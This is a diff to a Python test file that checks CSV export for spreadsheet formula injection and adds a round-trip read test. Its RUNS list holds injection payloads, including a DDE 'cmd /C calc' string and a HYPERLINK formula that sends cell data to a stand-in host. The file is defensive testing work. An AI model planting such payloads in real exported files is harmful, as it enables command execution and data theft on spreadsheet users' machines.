@@ -13,7 +13,7 @@ from hypothesis import strategies as st
 from sigscope.cli.output import print_table
 from sigscope.ratings.scores import csv_text
 from sigscope.search.export import as_csv
-from sigscope.spreadsheets import csv_of
+from sigscope.spreadsheets import csv_of, table_of
 
 RUNS = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1+1"]
 RUNS += ["＝1+1", "\ufeff=1", "\x00=1", '=HYPERLINK("http://x/?"&A1)', "\u200b@x", "\tx", "-"]
@@ -34,6 +34,12 @@ def test_a_cell_that_would_run_is_a_text(cell, dtype):
 @pytest.mark.parametrize("cell", HARMLESS)
 def test_any_other_stays_as_it_is(cell):
     assert rows(csv_of(pd.DataFrame({"caption": [cell], "n": [1]})))[1] == [cell, "1"]
+
+
+@pytest.mark.parametrize("cell", [*RUNS, *HARMLESS[:6]])
+def test_what_was_written_is_read_again(cell):
+    expected = cell.replace("\r", "\n")
+    assert table_of(csv_of(pd.DataFrame({"caption": [cell], "n": [1]})))["caption"][0] == expected
 
 
 @pytest.mark.parametrize("cell", ["a\r=1+1", "a\r\n=1+1", "a\n=1+1", 'a"\r=1+1', "a,\r=1"])
